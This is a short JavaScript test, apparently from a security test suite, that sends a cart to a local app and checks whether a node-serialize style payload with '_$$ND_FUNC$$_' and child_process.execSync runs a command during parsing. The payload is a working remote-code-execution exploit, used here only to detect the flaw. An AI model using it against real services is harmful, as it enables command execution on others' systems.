// A cart that runs a command while it is parsed.
//
// samples: bad 1, good 1
'use strict';

const fs = require('node:fs');
const { BAD, attack, load, quoted, run, serve, use } = require('attack');

run(async () => {
  const { app } = load(['app']);
  const ask = await serve(app);
  const send = (text) => ask('POST', '/cart', text, { 'Content-Type': BAD ? 'text/plain' : 'application/json' });
  use((await send('{"items":["tea","milk"]}')).text);
  const payload = `{"x":"_$$ND_FUNC$$_function(){ require('child_process').execSync('id') }()"}`;
  // In place of `id`, something that can be seen here.
  const { status } = await send(quoted(payload).replace("'id'", "'id > ran'"));
  const ran = fs.existsSync('ran') ? fs.readFileSync('ran', 'utf8') : '';
  attack(ran.startsWith('uid='), [status, ran]);
});
